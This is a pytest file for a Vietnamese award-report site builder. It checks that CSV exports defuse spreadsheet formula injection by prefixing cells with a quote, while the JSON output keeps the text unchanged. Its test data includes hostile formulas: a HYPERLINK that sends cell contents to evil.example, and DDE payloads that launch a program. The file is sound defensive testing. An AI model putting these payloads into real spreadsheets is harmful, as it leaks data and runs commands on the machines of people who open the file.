"""CSV injection: a text cell that a spreadsheet would run as a formula is written with a
single quote in front (OWASP); the JSON keeps the text as written."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from authoring_helpers import make_site
from emulation_blocs.commands.build import build

# Each way a cell can start a formula, with something a spreadsheet would run after it.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
ORGANISATION = "@Hội Khuyến học tỉnh"
ARTICLE = "articles/bac-kan/2022/2022-12-28-khoi-mttq-tong-ket-2022.md"


def _award(formula: str) -> str:
    return f"""  - type: co-thi-dua-tinh
    authority: UBND tỉnh
    recipients: [{json.dumps(ORGANISATION, ensure_ascii=False)}]
    year: 2022
    status: de-nghi
    as_written: {json.dumps(formula, ensure_ascii=False)}
    decision: {json.dumps(formula, ensure_ascii=False)}
"""


REPORT = f"""---
title: Khối thi đua MTTQ và các đoàn thể Bắc Kạn tổng kết năm 2022
date: 2022-12-28
author: Thu Trang
source:
  paper: Báo Bắc Kạn
province: Bắc Kạn
bloc: Khối thi đua MTTQ và các đoàn thể
conference:
  kinds: [tong-ket]
  date: 2022-12-27
  year_reviewed: 2022
members:
  year: 2022
  list: [{json.dumps(ORGANISATION, ensure_ascii=False)}]
awards:
{"".join(_award(formula) for formula in FORMULAS)}---
Khối tổng kết năm 2022.
"""


@pytest.fixture(scope="module")
def output(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("csv")
    site = make_site(root)
    registry = site.content / "registry" / "provinces" / "bac-kan.yaml"
    registry.write_text(registry.read_text(encoding="utf-8").replace(
        "organisations:\n",
        f"organisations:\n  - id: hoi-khuyen-hoc\n    name: {json.dumps(ORGANISATION, ensure_ascii=False)}\n"
        "    kind: xa-hoi-nghe-nghiep\n", 1), encoding="utf-8")
    (site.content / ARTICLE).parent.mkdir(parents=True)
    (site.content / ARTICLE).write_text(REPORT, encoding="utf-8")
    # The production settings: a build that stops on any problem, so the report is valid.
    return build(str(site.publish_settings), str(site.output), {"CACHE_PATH": str(root / "cache")})


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("table", ["data/nam/2022/khen-thuong.csv",
                                   "data/khoi/bac-kan/mttq-va-cac-doan-the/khen-thuong.csv"])
def test_award_cells_are_never_formulas(output: Path, table: str) -> None:
    rows = [row for row in _rows(output / table) if row["year"] == "2022"]
    assert [row["as_written"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert [row["decision"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert {row["recipients"] for row in rows} == {"'" + ORGANISATION}
    assert {row["count"] for row in rows} == {""}


def test_member_names_are_never_formulas(output: Path) -> None:
    rows = _rows(output / "data/nam/2022/thanh-vien.csv")
    assert [row["organisation"] for row in rows] == ["'" + ORGANISATION]
    assert [row["year"] for row in rows] == ["2022"]  # numbers as they are


def test_json_keeps_the_text_as_written(output: Path) -> None:
    data = json.loads((output / "data/nam/2022.json").read_text(encoding="utf-8"))
    text = json.dumps(data, ensure_ascii=False)
    for formula in FORMULAS:
        assert json.dumps(formula, ensure_ascii=False) in text
    assert "'" + FORMULAS[0] not in text
